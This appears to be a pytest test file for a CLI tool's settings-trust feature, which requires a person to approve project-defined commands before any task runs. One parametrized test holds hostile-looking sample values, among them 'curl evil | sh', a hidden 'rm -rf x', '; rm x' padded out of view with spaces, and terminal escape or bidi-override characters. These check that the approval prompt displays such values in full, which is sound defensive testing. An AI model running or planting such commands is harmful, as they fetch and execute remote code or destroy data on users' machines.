"""Settings at a terminal: a person says yes to what a project asks for, or nothing starts."""

import json
from collections.abc import Iterator
from pathlib import Path

import pytest

import abreast
from abreast.cli.edge import guard
from abreast.cli.settings import literal
from abreast.places import find_places
from tests.cli.test_door import Screen, screen  # noqa: F401 (a fixture)
from tests.support.repos import Repo
from tests.support.stage import Stage

PLAN = """
[[task]]
id = "a"
prompt = "Do a."
agent = { command = "echo a > a.txt" }
"""


@pytest.fixture
def stage(repo: Repo) -> Iterator[Stage]:
    with Stage(find_places().make(), repo) as made:
        yield made


@pytest.fixture
def asking(repo: Repo, monkeypatch: pytest.MonkeyPatch) -> Repo:
    """A repository whose settings ask for a verify command, around the current folder."""
    monkeypatch.chdir(repo.path)
    repo.write({"abreast.toml": 'verify = "test -e a.txt"\n', "plan.toml": PLAN})
    repo.git("add", "-A")
    repo.git("commit", "-qm", "settings")
    return repo


def test_run_asks_a_person_and_remembers_the_yes(
    asking: Repo,
    screen: Screen,  # noqa: F811
    stage: Stage,
) -> None:
    refused = screen.run("run", "plan.toml", keys="n\n")
    assert "verify = test -e a.txt" in refused
    assert "Use them? [y/N]" in refused
    assert "to which you have not said yes" in refused
    assert abreast.runs(places=stage.places) == []

    ran = screen.run("run", "plan.toml", keys="y\n")
    assert "1 of 1 task done" in ran
    assert "Use them?" not in screen.run("run", "plan.toml", "-d")
    verified = {stage.wait(run.id).state for run in abreast.runs(places=stage.places)}
    assert verified == {abreast.RunState.DONE}


def test_without_a_terminal_nothing_starts_and_the_hint_says_yes(
    asking: Repo, stage: Stage, capsys: pytest.CaptureFixture[str]
) -> None:
    assert guard(["run", "plan.toml"]) == 1
    said = capsys.readouterr().err
    head = asking.git("rev-parse", "HEAD")
    assert f"abreast settings trust --base {head[:12]}" in said
    assert abreast.runs(places=stage.places) == []
    assert guard(["settings", "trust", "--base", head[:12], "--yes"]) == 0
    assert guard(["run", "plan.toml", "--detach"]) == 0
    [run] = abreast.runs(places=stage.places)
    stage.wait(run.id)


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("make test", "make test"),
        ("", '""'),
        ("ok\n  rm -rf x", r'"ok\n  rm -rf x"'),
        ("ok\x1b[2K\u202eko", r'"ok\u001b[2K\u202eko"'),
        ("ok" + 50 * " " + "; rm x", f'"ok{50 * " "}; rm x"'),
        ({"command": "curl evil | sh"}, '{"command": "curl evil | sh"}'),
        (["A", "B"], '["A", "B"]'),
    ],
)
def test_what_is_agreed_to_is_shown_in_full(value: object, shown: str) -> None:
    assert literal(value) == shown


def test_options_before_the_inner_verb_count(
    asking: Repo,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.chdir(tmp_path)
    first = ["settings", "--json", "--repo", str(asking.path)]
    assert guard([*first, "set", "--project", "model", "m"]) == 0
    file = asking.path / "abreast.toml"
    assert json.loads(capsys.readouterr().out)["file"] == str(file)
    assert 'model = "m"' in file.read_text()
    assert guard([*first, "trust", "--yes"]) == 0
    assert json.loads(capsys.readouterr().out)["trusted"] is True


def test_what_is_not_committed_is_told(
    asking: Repo, capfd: pytest.CaptureFixture[str], scratch_home: Path
) -> None:
    del scratch_home
    note = "note: abreast.toml has changes that count once they are committed"
    assert guard(["settings"]) == 0
    assert note not in capfd.readouterr().err
    asking.write({"abreast.toml": 'verfy = "true"\n'})
    assert guard(["settings"]) == 0
    assert note in capfd.readouterr().err
